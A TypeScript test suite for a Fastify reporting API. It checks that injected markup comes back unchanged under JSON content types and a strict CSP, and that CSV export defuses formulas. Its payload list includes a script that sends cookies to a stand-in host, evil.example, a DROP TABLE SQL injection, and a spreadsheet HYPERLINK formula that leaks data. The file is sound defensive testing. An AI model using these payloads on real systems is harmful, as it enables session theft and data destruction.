import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Role } from '../src/core/account.js';
import { createTestServer, ingestText, json, PASSWORD, type TestServer, wireReport } from './support/server.js';
import { STORE_KINDS } from './support/stores.js';

/** Markup a page would run if it put text in as HTML; the API must hand each one back as it came. */
const SCRIPTS = [
  '<script>alert("tally")</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(document.cookie)',
  '"><svg onload=alert(1)>',
  "'-alert(1)-'",
  '</textarea><script>fetch("//evil.example/"+document.cookie)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  "'; DROP TABLE figures; --",
];

/** Asked for as a browser navigating there would: a JSON answer must still be JSON. */
const BROWSER = { accept: 'text/html,application/xhtml+xml,*/*;q=0.8' };

/** JSON, never sniffed as anything else, under a CSP that allows no inline or foreign script. */
function expectInert(r: LightMyRequestResponse, where: string): void {
  expect([where, r.headers['content-type']]).toEqual([where, expect.stringMatching(/^application\/json\b/)]);
  expect([where, r.headers['x-content-type-options']]).toEqual([where, 'nosniff']);
  const csp = String(r.headers['content-security-policy']);
  expect([where, csp]).toEqual([where, expect.stringContaining("default-src 'self'")]);
  expect([where, csp]).toEqual([where, expect.stringContaining("script-src 'self'")]);
  expect([where, csp]).not.toEqual([where, expect.stringMatching(/script-src[^;]*unsafe-inline/)]);
}

for (const kind of STORE_KINDS) {
  describe(`script payloads on ${kind}`, () => {
    let s: TestServer;
    beforeAll(async () => {
      s = await createTestServer(kind);
    });
    afterAll(async () => s.close());

    const call = async (method: 'GET' | 'POST', url: string, payload?: object, role: Role = 'analyst') => {
      const r = await s.app.inject({
        method,
        url,
        headers: { ...s.as(role), ...BROWSER },
        ...(payload ? { payload } : {}),
      });
      expectInert(r, `${method} ${url}`);
      return r;
    };
    const admin = (method: 'GET' | 'POST', url: string, payload?: object) => call(method, url, payload, 'admin');

    it('keeps a document title, text and source exactly as sent', async () => {
      for (const p of SCRIPTS) {
        const text = `${wireReport().text}\nA witness wrote: ${p}\n`;
        const r = await call('POST', '/api/documents', { title: p, text, source: p });
        expect([p, r.statusCode]).toEqual([p, 201]);
        const id = json<{ id: number; name: string }>(r).id;
        expect(json<{ name: string }>(r).name).toBe(p);
        const doc = json<{ title: string; text: string; source: string }>(await call('GET', `/api/documents/${id}`));
        expect(doc).toMatchObject({ title: p, source: p });
        expect(doc.text).toContain(`A witness wrote: ${p}`);
        const list = json<{ id: number; title: string }[]>(await call('GET', '/api/documents?limit=1000'));
        expect(list.find((d) => d.id === id)?.title).toBe(p);
      }
    });

    it('keeps every free-text field of a figure correction, its note and its reason', async () => {
      // One figure, corrected again for each payload: every correction is a new review, the newest shown.
      const id = (await ingestText(s, wireReport().text)).figures[0] as number;
      for (const p of SCRIPTS) {
        const fields = { claimant: p, place: p, actor: p, perpetrator: p, vague: p };
        const r = await call('POST', `/api/figures/${id}/correct`, { reason: p, note: p, ...fields });
        expect([p, r.statusCode, r.statusCode === 200 ? '' : r.body]).toEqual([p, 200, '']);
        const audit = json<{ audit_id: number }>(r).audit_id;
        for (const figure of [
          json<{ figure: unknown }>(r).figure,
          json<unknown>(await call('GET', `/api/figures/${id}`)),
        ]) {
          expect(figure).toMatchObject({ ...fields, review: { note: p } });
        }
        const entry = json<{ reason: string }>(await call('GET', `/api/audit/${audit}`));
        expect(entry.reason).toBe(p);
        const found = json<{ id: number }[]>(
          await call('GET', `/api/figures?claimant=${encodeURIComponent(p)}&status=all`),
        );
        expect(found.map((f) => f.id)).toContain(id);
      }
    });

    it('keeps the sides, note and reason of an incident correction', async () => {
      const id = (await ingestText(s, wireReport().text)).incidents[0] as number;
      for (const p of SCRIPTS) {
        const r = await call('POST', `/api/incidents/${id}/correct`, {
          reason: p,
          note: p,
          side_a: { name: p, actor_id: null },
          side_b: { name: `${p} (b)`, actor_id: null },
        });
        expect([p, r.statusCode, r.statusCode === 200 ? '' : r.body]).toEqual([p, 200, '']);
        for (const incident of [
          json<{ incident: unknown }>(r).incident,
          json<unknown>(await call('GET', `/api/incidents/${id}`)),
        ]) {
          expect(incident).toMatchObject({ side_a: p, side_b: `${p} (b)`, review: { note: p } });
        }
        const entry = json<{ reason: string }>(
          await call('GET', `/api/audit/${json<{ audit_id: number }>(r).audit_id}`),
        );
        expect(entry.reason).toBe(p);
        // The note on its own route too.
        const noted = await call('POST', `/api/incidents/${id}/note`, { note: `${p}!`, note_sensitive: false });
        expect(json<{ incident: { review: { note: string } } }>(noted).incident.review.note).toBe(`${p}!`);
      }
    });

    it('keeps token names, and refuses markup in user names, which must be plain identifiers', async () => {
      for (const p of SCRIPTS) {
        const created = await admin('POST', '/api/tokens', { user: 'viewer', name: p });
        expect([p, created.statusCode]).toEqual([p, 201]);
        expect(json<{ name: string }>(created).name).toBe(p);
        const listed = json<{ id: number; name: string }[]>(await admin('GET', '/api/tokens?user=viewer'));
        expect(listed.find((t) => t.id === json<{ id: number }>(created).id)?.name).toBe(p);

        const user = await admin('POST', '/api/users', { name: p, role: 'viewer', password: PASSWORD });
        expect([p, user.statusCode]).toEqual([p, 400]);
        expect(json<{ message: string }>(user).message).toMatch(/^body\.name: /);
      }
      const users = json<{ name: string }[]>(await admin('GET', '/api/users'));
      expect(users.map((u) => u.name).sort()).toEqual(['admin', 'analyst', 'viewer']);
    });

    it('answers errors that quote the input as JSON too', async () => {
      const p = encodeURIComponent(SCRIPTS[0] as string);
      const urls = [
        `/api/${p}`,
        `/api/incidents?place=${p}`,
        `/api/incidents?from=${p}`,
        `/api/figures/${p}`,
        `/api/users/${p}`,
      ];
      for (const url of urls) {
        const r = await admin('GET', url);
        expect([url, r.statusCode]).toEqual([url, expect.toBeOneOf([400, 404])]);
      }
      // Validation that echoes a value (an unknown sub-event type) stays JSON.
      const { incidents } = await ingestText(s, wireReport().text);
      const bad = await call('POST', `/api/incidents/${incidents[0]}/correct`, {
        reason: 'x',
        sub_event_type: SCRIPTS[1],
      });
      expect(bad.statusCode).toBe(400);
      expect(json<{ message: string }>(bad).message).toContain(SCRIPTS[1]);
    });

    it('exports stored markup as a CSV attachment, with formulas defused', async () => {
      const { incidents } = await ingestText(s, wireReport().text);
      const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
      const r = await call('POST', `/api/incidents/${incidents[0]}/correct`, {
        reason: 'sides from the report',
        side_a: { name: SCRIPTS[0], actor_id: null },
        side_b: { name: formula, actor_id: null },
      });
      expect(r.statusCode).toBe(200);
      const csv = await s.app.inject({ method: 'GET', url: '/api/export/incidents.csv', headers: s.as('viewer') });
      expect(csv.statusCode).toBe(200);
      expect(csv.headers['content-type']).toMatch(/^text\/csv\b/);
      expect(csv.headers['content-disposition']).toMatch(/^attachment\b/);
      expect(csv.headers['x-content-type-options']).toBe('nosniff');
      expect(csv.body).toContain('"<script>alert(""tally"")</script>"');
      expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
    });
  });
}
